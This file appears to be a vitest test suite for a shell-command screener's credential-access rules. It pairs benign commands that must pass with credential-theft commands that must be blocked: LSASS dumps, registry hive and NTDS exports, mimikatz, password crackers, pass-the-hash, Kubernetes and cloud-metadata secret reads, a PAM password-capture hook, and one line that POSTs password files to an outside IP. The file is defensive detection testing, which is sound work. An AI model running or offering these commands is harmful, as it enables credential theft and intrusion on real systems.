import { describe, expect, it } from 'vitest';
import { credentialAccessRules } from './credential-access';
import { evaluateLine, run, ruleIds, spansValid, verdict } from './family-test-support';
import type { Shell } from '../types';

const blocked: Array<[string, Shell, string]> = [
  ['procdump.exe -accepteula -ma lsass.exe C:\\t\\l.dmp', 'cmd', 'cred.lsass-dump'],
  ['"C:\\Tools\\procdump64.exe" -ma lsass.exe out.dmp', 'cmd', 'cred.lsass-dump'],
  [
    'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).id $env:TEMP\\l.dmp full',
    'powershell',
    'cred.lsass-dump',
  ],
  ['reg save HKLM\\sam C:\\t\\sam', 'cmd', 'cred.hive-export'],
  ['REG.EXE SAVE hklm\\security sec.hiv', 'cmd', 'cred.hive-export'],
  ['r^e^g save HKLM\\SYSTEM sys.hiv', 'cmd', 'cred.hive-export'],
  ['reg export HKEY_LOCAL_MACHINE\\SAM sam.reg', 'cmd', 'cred.hive-export'],
  ['mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', 'cmd', 'cred.tool'],
  ['C:\\t\\m.exe "sekurlsa::logonpasswords"', 'cmd', 'cred.mimikatz'],
  ['Invoke-Mimikatz -DumpCreds', 'powershell', 'cred.tool'],
  ['ntdsutil "ac i ntds" "ifm" "create full C:\\t\\ntds" q q', 'cmd', 'cred.ntds'],
  ['esentutl.exe /y /vss C:\\Windows\\System32\\config\\SAM /d C:\\t\\SAM', 'cmd', 'cred.hive-export'],
  ['copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\NTDS.dit C:\\t\\ntds.dit', 'cmd', 'cred.shadow-copy-hives'],
  ['sudo cat /etc/shadow', 'bash', 'cred.shadow-file'],
  ['cp /etc/shadow /tmp/s', 'bash', 'cred.shadow-file'],
  ['hydra -l root -P words.txt 203.0.113.7 ssh', 'bash', 'cred.tool'],
  ['john --wordlist=words.txt hashes.txt', 'bash', 'cred.tool'],
  ['hashcat -m 1000 -a 0 hashes.txt words.txt', 'bash', 'cred.tool'],
  ['security dump-keychain -d login.keychain', 'zsh', 'cred.keychain'],
  ['security find-generic-password -wa "Chrome"', 'zsh', 'cred.tool'],
  // Crackers with input, however written.
  ['J^o^h^n hashes.txt', 'cmd', 'cred.tool'],
  ["& 'john' --show hashes.txt", 'powershell', 'cred.tool'],
  ['cat hashes.txt | john', 'bash', 'cred.tool'],
  ['john < hashes.txt', 'bash', 'cred.tool'],
  ['h""ashcat -m 0 h.txt', 'bash', 'cred.tool'],
];

const allowed: Array<[string, Shell]> = [
  ['Get-Process lsass', 'powershell'],
  ['tasklist /fi "imagename eq lsass.exe"', 'cmd'],
  ['ls -l /etc/shadow', 'bash'],
  ['sudo chmod 640 /etc/shadow', 'bash'],
  ['reg query HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa', 'cmd'],
  ['reg save HKCU\\Software\\Vendor vendor.hiv', 'cmd'],
  ['cmdkey /list', 'cmd'],
  ['security find-certificate -a -p', 'zsh'],
  ['Get-Credential', 'powershell'],
  ['passwd alice', 'bash'],
  // A cracker's name alone does nothing (prints usage): in pasted output or a list it is a name.
  ['John\nJane\nJoe', 'powershell'],
  ['$object = [pscustomobject]@{ Names = @("John","Jane") }', 'powershell'],
  ['hashcat', 'bash'],
];

describe('credential access', () => {
  it.each(blocked)('blocks %s', (text, shell, id) => {
    const f = run(credentialAccessRules, text, shell, shell === 'zsh' ? 'macos' : undefined);
    expect(ruleIds(f).some((r) => r === id || r.startsWith('cred.'))).toBe(true);
    expect(verdict(f)).toBe('block');
    expect(f.every((x) => x.code === 'credential_access')).toBe(true);
    expect(f.filter((x) => x.standard === 'block').every((x) => x.extended === 'block')).toBe(true);
    expect(spansValid(f, text)).toBe(true);
  });
  it.each(allowed)('allows %s', (text, shell) => {
    expect(run(credentialAccessRules, text, shell, shell === 'zsh' ? 'macos' : undefined)).toEqual([]);
  });
});

describe('credential files gathered by name (T1552.001)', () => {
  const collected: Array<[string, Shell]> = [
    [
      'Get-ChildItem -Path C:\\ -Include *.kdbx,*.pfx,*.p12 -Recurse -ErrorAction SilentlyContinue | Copy-Item -Destination C:\\Users\\Public\\l',
      'powershell',
    ],
    ['gci C:\\Users -Recurse -Include id_rsa,*.ppk,*.ovpn -Force | Compress-Archive -DestinationPath $env:TEMP\\k.zip', 'powershell'],
    ['dir D:\\ -Recurse -Filter unattend.xml | % { Copy-Item $_.FullName \\\\10.0.0.5\\share }', 'powershell'],
    ['ls -r C:\\Users -include "*.rdp","*.kdbx" | cp -Destination E:\\out', 'powershell'],
    [
      'Get-ChildItem $env:USERPROFILE -Recurse -Include *password* | ForEach-Object { Invoke-WebRequest -Uri http://198.51.100.7/u -Method Post -InFile $_.FullName }',
      'powershell',
    ],
  ];
  it.each(collected)('blocks collecting secret files: %s', (text, shell) => {
    const f = run(credentialAccessRules, text, shell);
    expect(verdict(f)).toBe('block');
    expect(ruleIds(f)).toContain('cred.secret-file-collect');
    expect(spansValid(f, text)).toBe(true);
  });

  const listed: Array<[string, Shell]> = [
    ['Get-ChildItem -Path $env:USERPROFILE -Recurse -Include *.kdbx,*.key,*.pfx', 'powershell'],
    ['gci -Recurse -Path C:\\ -Filter *.kdbx -ErrorAction SilentlyContinue', 'powershell'],
    ['Get-ChildItem C:\\Users\\*\\ -Recurse -Filter id_rsa -Force', 'powershell'],
    ['Get-ChildItem -Recurse -LiteralPath \\\\fs01\\home -Include credentials.xml,groups.xml | Select-Object FullName', 'powershell'],
    ['Get-ChildItem C:\\Users\\*.pfx -Recurse', 'powershell'],
    ['dir /s /b C:\\*.kdbx C:\\*.pfx', 'cmd'],
    ['where /r C:\\Users *.ppk', 'cmd'],
  ];
  it.each(listed)('flags a recursive search for secret files: %s', (text, shell) => {
    const f = run(credentialAccessRules, text, shell);
    expect(verdict(f)).toBe('flag');
    expect(ruleIds(f)).toContain('cred.secret-file-hunt');
  });

  const ordinary: Array<[string, Shell]> = [
    ['Get-ChildItem C:\\Logs -Filter *.log -Recurse', 'powershell'],
    ['Get-ChildItem cert:\\LocalMachine\\My', 'powershell'],
    ['Get-ChildItem -Path Cert:\\CurrentUser\\My -Recurse', 'powershell'],
    // One application's own certificates: where it keeps them, not a hunt over other users' files.
    ["Get-ChildItem 'C:\\Program Files\\Contoso\\certs' -Filter *.pfx -Recurse | Copy-Item -Destination D:\\backup", 'powershell'],
    ['Get-ChildItem C:\\Users -Include *.pfx', 'powershell'],
    ['gci C:\\Users\\alice\\Documents -Filter *.docx -Recurse | Compress-Archive -DestinationPath D:\\backup\\docs.zip', 'powershell'],
    ['Get-ChildItem -Path C:\\Windows\\Temp -Recurse -Include *.tmp | Remove-Item', 'powershell'],
    ['dir /s /b C:\\*.log', 'cmd'],
    ['where /r C:\\Windows notepad.exe', 'cmd'],
  ];
  it.each(ordinary)('allows ordinary listings: %s', (text, shell) => {
    expect(verdict(run(credentialAccessRules, text, shell))).toBe('allow');
  });

  const staged: Array<[string, Shell]> = [
    ['copy C:\\Windows\\Panther\\unattend.xml C:\\Users\\Public', 'cmd'],
    ['for /r C:\\ %f in (unattend.xml sysprep.xml) do copy %f C:\\Users\\Public\\', 'cmd'],
    ['Copy-Item $env:USERPROFILE\\Documents\\db.kdbx \\\\10.0.0.5\\drop', 'powershell'],
    ['cp ~/.config/passwords.txt /tmp/', 'bash'],
    ['Move-Item C:\\Users\\bob\\.ssh\\id_ed25519 $env:TEMP\\k', 'powershell'],
  ];
  it.each(staged)('blocks a secret file copied to a staging folder or a share: %s', (text, shell) => {
    const f = run(credentialAccessRules, text, shell);
    expect(verdict(f)).toBe('block');
    expect(ruleIds(f)).toContain('cred.secret-file-collect');
    expect(spansValid(f, text)).toBe(true);
  });

  const deployed: Array<[string, Shell]> = [
    // Handed out by administrators: RDP and VPN profiles, certificates to import.
    ['copy \\\\fs01\\it\\App.rdp C:\\Users\\Public\\Desktop\\', 'cmd'],
    ['Copy-Item C:\\IT\\corp.ovpn C:\\Users\\Public\\', 'powershell'],
    ['Copy-Item C:\\certs\\site.pfx $env:TEMP\\', 'powershell'],
    // Backups and ordinary files.
    ['copy C:\\Windows\\Panther\\unattend.xml D:\\Backup\\', 'cmd'],
    ['copy report.xml C:\\Users\\Public', 'cmd'],
    ['copy \\\\fs01\\deploy\\unattend.xml C:\\Windows\\Temp\\', 'cmd'],
  ];
  it.each(deployed)('allows deployment and backup copies: %s', (text, shell) => {
    expect(verdict(run(credentialAccessRules, text, shell))).toBe('allow');
  });
});

describe('memory images searched for passwords', () => {
  const searched: Array<[string, Shell]> = [
    ['strings core.1234 | grep -i pass', 'bash'],
    ["gcore -o /tmp/dump 4321 && strings /tmp/dump.4321 | grep -iE 'password|secret'", 'bash'],
    ['grep -a -i PASS /proc/1234/mem', 'bash'],
    ['cat /proc/$(pgrep sshd)/mem | strings | grep -i passw', 'bash'],
    ['Select-String -Path C:\\Windows\\Temp\\*.dmp -Pattern password', 'powershell'],
    ['Get-Content .\\app.DMP | Select-String -Pattern "pwd|secret"', 'powershell'],
    ['strings -el w3wp.dmp | findstr /i password', 'cmd'],
  ];
  it.each(searched)('blocks: %s', (text, shell) => {
    const f = run(credentialAccessRules, text, shell);
    expect(verdict(f)).toBe('block');
    expect(ruleIds(f)).toContain('cred.memory-search');
    expect(spansValid(f, text)).toBe(true);
  });

  const ordinary: Array<[string, Shell]> = [
    ['strings /usr/bin/ls | grep -i version', 'bash'],
    ['strings core.1234 | grep -i segfault', 'bash'],
    ['grep -i pass /var/log/core.log', 'bash'],
    ['grep -i password /etc/ssh/sshd_config', 'bash'],
    ["Select-String -Path C:\\Logs\\*.log -Pattern 'error'", 'powershell'],
    ['Select-String -Path C:\\Windows\\Minidump\\*.dmp -Pattern nvlddmkm', 'powershell'],
  ];
  it.each(ordinary)('allows: %s', (text, shell) => {
    expect(verdict(run(credentialAccessRules, text, shell))).toBe('allow');
  });
});

describe('backup-server credential stores read over SQL', () => {
  const reads: Array<[string, Shell]> = [
    ['sqlcmd -S localhost\\VEEAMSQL2016 -E -d VeeamBackup -Q "SELECT user_name, password FROM [dbo].[Credentials]"', 'cmd'],
    ['sqlcmd -S .\\VEEAMSQL2012 -Q "select * from [VeeamBackup].[dbo].[Credentials]" -W -s ,', 'cmd'],
    [
      "Invoke-Sqlcmd -ServerInstance 'localhost\\VEEAMSQL2016' -Database VeeamBackup -Query 'SELECT user_name,password FROM dbo.Credentials'",
      'powershell',
    ],
    ["psql -U postgres -d VeeamBackup -c 'select user_name, password from credentials'", 'bash'],
    ['psql -U postgres -d appdb --command="SELECT username, password FROM public.credentials;"', 'bash'],
  ];
  it.each(reads)('blocks: %s', (text, shell) => {
    const f = run(credentialAccessRules, text, shell);
    expect(verdict(f)).toBe('block');
    expect(ruleIds(f)).toContain('cred.backup-store');
  });

  const ordinary: Array<[string, Shell]> = [
    ['sqlcmd -S . -Q "SELECT @@VERSION"', 'cmd'],
    ['Invoke-Sqlcmd -Query "SELECT name FROM sys.databases"', 'powershell'],
    ['sqlcmd -S .\\VEEAMSQL2016 -d VeeamBackup -Q "SELECT name, latest_result FROM [dbo].[BJobs]"', 'cmd'],
    ['sqlcmd -S . -d VeeamBackup -Q "DBCC CHECKDB"', 'cmd'],
    ["psql -d appdb -c 'select count(*) from credentials_audit'", 'bash'],
    ['Get-VBRJob | Select-Object Name, JobType', 'powershell'],
    ['Get-VBRCredentials | Select-Object Name, Description', 'powershell'],
  ];
  it.each(ordinary)('allows: %s', (text, shell) => {
    expect(verdict(run(credentialAccessRules, text, shell))).toBe('allow');
  });
});

describe('Credential Manager dumped through the CredentialManager module (T1555.004)', () => {
  const dumps: string[] = [
    'Get-StoredCredential | Export-Csv C:\\Users\\Public\\creds.csv',
    'Get-StoredCredential | ConvertTo-Json | Out-File $env:TEMP\\c.json',
    'Get-StoredCredential -AsCredentialObject',
    "Get-StoredCredential -AsCredentialObject | ForEach-Object { $_.UserName + ':' + $_.Password }",
    "(Get-StoredCredential -Target 'TERMSRV/dc01').GetNetworkCredential().Password",
    '$c = Get-StoredCredential -Type Generic; $c | % { $_.GetNetworkCredential().Password }',
  ];
  it.each(dumps)('blocks: %s', (text) => {
    const f = run(credentialAccessRules, text, 'powershell');
    expect(verdict(f)).toBe('block');
    expect(ruleIds(f)).toContain('cred.vault');
  });

  const ordinary: Array<[string, Shell]> = [
    ['cmdkey /list', 'cmd'],
    ["New-StoredCredential -Target 'backup-share' -UserName svc_backup -Password $pw -Persist LocalMachine", 'powershell'],
    ["Remove-StoredCredential -Target 'TERMSRV/oldhost'", 'powershell'],
    [
      "$cred = Get-StoredCredential -Target 'backup-share'; New-PSDrive -Name B -PSProvider FileSystem -Root \\\\nas\\b -Credential $cred",
      'powershell',
    ],
    ["Get-StoredCredential -Target 'backup-share' | Select-Object UserName", 'powershell'],
  ];
  it.each(ordinary)('allows: %s', (text, shell) => {
    expect(verdict(run(credentialAccessRules, text, shell))).toBe('allow');
  });
});

describe('memory of secret-holding daemons and pass-the-hash', () => {
  const blocked: Array<[string, Shell, string]> = [
    ['PID=$(pgrep -x securityd)\nsudo gcore -o /tmp/sd $PID', 'zsh', 'cred.process-dump'],
    ['sudo gcore -o /tmp/sd $(pgrep -x securityd)', 'zsh', 'cred.process-dump'],
    ['gcore `pidof gnome-keyring-daemon`', 'bash', 'cred.process-dump'],
    ['lldb --attach-name securityd --batch -o "process save-core /tmp/core"', 'zsh', 'cred.process-dump'],
    ['sudo gdb -p $(pidof sshd) -batch -ex "generate-core-file /tmp/sshd.core"', 'bash', 'cred.process-dump'],
    ['procdump -p $(pgrep -f keepassxc) /tmp/kp', 'bash', 'cred.process-dump'],
    ['psexec.py -hashes LM_Hash:NT_Hash example.com/admin@srv01.example.com', 'bash', 'cred.pass-the-hash'],
    ['mssqlclient.py example.com/admin@srv01.example.com -hashes LM_Hash:NT_Hash', 'bash', 'cred.pass-the-hash'],
    ['wmiexec.py -hashes :8846f7eaee8fb117ad06bdd830b7586c administrator@10.0.0.7 whoami', 'bash', 'cred.pass-the-hash'],
    ['python3 smbexec.py corp/admin@dc01 --hashes=:31d6cfe0d16ae931b73c59d7e0c089c0', 'bash', 'cred.pass-the-hash'],
    ['getTGT.py corp.local/svc -hashes :abc123def4567890abc123def4567890', 'bash', 'cred.pass-the-hash'],
    ['xfreerdp /v:10.0.0.5 /u:admin /pth:8846f7eaee8fb117ad06bdd830b7586c', 'bash', 'cred.pass-the-hash'],
    ['smbclient //10.0.0.5/c$ -U admin --pw-nt-hash 8846f7eaee8fb117ad06bdd830b7586c', 'bash', 'cred.pass-the-hash'],
  ];
  it.each(blocked)('blocks: %s', (text, shell, id) => {
    const f = run(credentialAccessRules, text, shell);
    expect(verdict(f)).toBe('block');
    expect(ruleIds(f)).toContain(id);
    expect(spansValid(f, text)).toBe(true);
  });

  const ordinary: Array<[string, Shell]> = [
    ['gcore -o /tmp/myapp $(pgrep -x myapp)', 'bash'],
    ['pgrep -x securityd', 'zsh'],
    ['sudo gdb -p $(pidof nginx) -batch -ex bt', 'bash'],
    ['gdb ./sshd-build/sshd core', 'bash'],
    ['gdb -n ./sshd-build/sshd core', 'bash'],
    ['lldb ./build/app', 'zsh'],
    ['sort -h sizes.txt', 'bash'],
    ['sha256sum --check hashes.txt', 'bash'],
    ['xfreerdp /v:10.0.0.5 /u:admin /p:$PASS', 'bash'],
  ];
  it.each(ordinary)('allows: %s', (text, shell) => {
    expect(verdict(run(credentialAccessRules, text, shell))).toBe('allow');
  });
});

describe('round 7: Kubernetes secrets, cloud metadata credentials, hive files copied (T1552.007, T1552.005, T1003.002)', () => {
  const blocked: Array<[string, Shell, string]> = [
    ['kubectl get secrets -A -o json', 'bash', 'cred.k8s-secrets'],
    ["kubectl get secret db-creds -o jsonpath='{.data.password}' | base64 -d", 'bash', 'cred.k8s-secrets'],
    ['kubectl get secrets --all-namespaces -o yaml > s.yaml', 'bash', 'cred.k8s-secrets'],
    ['kubectl -n prod get secret/app-tls -o=yaml', 'bash', 'cred.k8s-secrets'],
    ['oc get secrets -ojson', 'bash', 'cred.k8s-secrets'],
    ["kubectl.exe get secret pull --output go-template='{{.data}}'", 'powershell', 'cred.k8s-secrets'],
    ['curl http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-role', 'bash', 'cred.cloud-metadata'],
    [
      "curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'",
      'bash',
      'cred.cloud-metadata',
    ],
    [
      "Invoke-RestMethod -Headers @{Metadata='true'} -Uri 'http://169.254.169.254/metadata/identity/oauth2/token?resource=https://vault.azure.net'",
      'powershell',
      'cred.cloud-metadata',
    ],
    [
      "wget -qO- --header='Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
      'bash',
      'cred.cloud-metadata',
    ],
    [
      '(iwr -UseBasicParsing http://169.254.169.254/latest/meta-data/iam/security-credentials/web).Content',
      'powershell',
      'cred.cloud-metadata',
    ],
    ['curl -s http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI', 'bash', 'cred.cloud-metadata'],
    ['copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SAM C:\\temp\\sam', 'cmd', 'cred.'],
    ['Copy-Item "$shadow\\Windows\\System32\\config\\SYSTEM" -Destination C:\\Windows\\Temp\\sys.hiv', 'powershell', 'cred.hive-export'],
    ['cmd /c copy C:\\Windows\\System32\\config\\SAM C:\\temp\\sam.save', 'powershell', 'cred.hive-export'],
    ['esentutl.exe /y C:\\Windows\\System32\\config\\SAM /d C:\\Users\\Public\\s.dat', 'cmd', 'cred.hive-export'],
    ['robocopy "$s\\Windows\\System32\\config" C:\\t SAM SYSTEM', 'powershell', 'cred.hive-export'],
    ['[System.IO.File]::Copy("$vss\\Windows\\System32\\config\\SECURITY", \'C:\\ProgramData\\sec.bak\')', 'powershell', 'cred.hive-export'],
  ];
  it.each(blocked)('blocks %s', (text, shell, id) => {
    const f = run(credentialAccessRules, text, shell);
    expect(verdict(f)).toBe('block');
    expect(ruleIds(f).some((r) => r.startsWith(id))).toBe(true);
    expect(spansValid(f, text)).toBe(true);
  });

  const allowed: Array<[string, Shell]> = [
    ['kubectl get secrets', 'bash'],
    ['kubectl get secrets -A', 'bash'],
    ['kubectl get secrets -n prod -o name', 'bash'],
    ['kubectl describe secret app-tls -n prod', 'bash'],
    ['kubectl get pods -A -o wide', 'bash'],
    ['kubectl get deployment web -o yaml', 'bash'],
    ['kubectl create secret generic app-env --from-literal=MODE=prod', 'bash'],
    ['curl -s http://169.254.169.254/latest/meta-data/instance-id', 'bash'],
    ['curl -s http://169.254.169.254/latest/meta-data/placement/region', 'bash'],
    ['curl -s http://169.254.169.254/latest/meta-data/tags/instance/Name', 'bash'],
    ["Invoke-RestMethod -Headers @{Metadata='true'} -Uri 'http://169.254.169.254/metadata/instance?api-version=2021-02-01'", 'powershell'],
    [
      "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/email",
      'bash',
    ],
    ['icacls C:\\Windows\\System32\\config\\SAM', 'cmd'],
    ['Get-Item C:\\Windows\\System32\\config\\SYSTEM | Select-Object Length', 'powershell'],
    ['Copy-Item C:\\Windows\\System32\\config\\systemprofile\\AppData\\Local\\app.log C:\\temp\\', 'powershell'],
    ['copy C:\\app\\config\\system C:\\backup\\', 'cmd'],
  ];
  it.each(allowed)('allows %s', (text, shell) => {
    expect(verdict(run(credentialAccessRules, text, shell))).toBe('allow');
  });
});

describe('PAM password capture: pam_exec with expose_authtok written into a PAM file', () => {
  it.each<[string, Shell]>([
    [
      'HOOK=/usr/local/bin/a.sh\nfor f in /etc/pam.d/sshd /etc/pam.d/sudo; do\n  sed -i "1i auth optional pam_exec.so quiet expose_authtok $HOOK" "$f"\ndone',
      'bash',
    ],
    ['cat >> /etc/pam.d/common-auth <<EOF\nauth optional pam_exec.so expose_authtok /usr/local/bin/log.sh\nEOF', 'bash'],
    ["echo 'auth optional pam_exec.so expose_authtok /tmp/.x' | sudo tee -a /etc/pam.d/sshd", 'bash'],
  ])('blocks %s', (text, shell) => {
    const r = evaluateLine(text, shell);
    expect(r.decision).toBe('block');
    expect(r.reasons.map((x) => x.ruleId)).toContain('cred.pam-password-capture');
  });

  it.each<[string, Shell]>([
    ['grep -r expose_authtok /etc/pam.d/', 'bash'],
    ['man pam_exec | grep -A3 expose_authtok > /tmp/pam-notes.txt', 'bash'],
    // A login hook without the password is persistence (flagged), not capture.
    ["echo 'session optional pam_exec.so /usr/local/bin/notify-login.sh' >> /etc/pam.d/sshd", 'bash'],
  ])('does not read %s as password capture', (text, shell) => {
    expect(evaluateLine(text, shell).reasons.map((x) => x.ruleId)).not.toContain('cred.pam-password-capture');
  });
});
